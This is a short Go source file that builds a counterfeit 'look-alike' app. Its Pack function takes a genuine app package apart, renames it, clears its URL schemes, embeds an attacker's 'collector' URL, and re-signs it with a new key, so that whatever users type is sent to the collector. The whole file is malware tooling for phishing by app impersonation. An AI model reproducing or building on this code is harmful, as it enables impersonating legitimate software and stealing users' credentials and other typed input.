package lookalike

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"os"

	"keyladder/mobileclient/release"
)

// Pack packs this program as an app that looks like the genuine one, whose package it is
// given, and writes that to a path. What is typed into it goes to the collector's URL.
func Pack(genuine, path, collector string) error {
	_, manifest, assets, err := release.Read(genuine)
	if err != nil {
		return fmt.Errorf("take the genuine package apart: %w", err)
	}
	program, err := os.Executable()
	if err != nil {
		return fmt.Errorf("find the look-alike's program: %w", err)
	}
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	manifest.Name, manifest.Schemes = name, nil
	assets[collectorAsset] = []byte(collector)
	if err := release.Pack(path, program, manifest, assets, key); err != nil {
		return fmt.Errorf("pack the look-alike: %w", err)
	}
	return nil
}
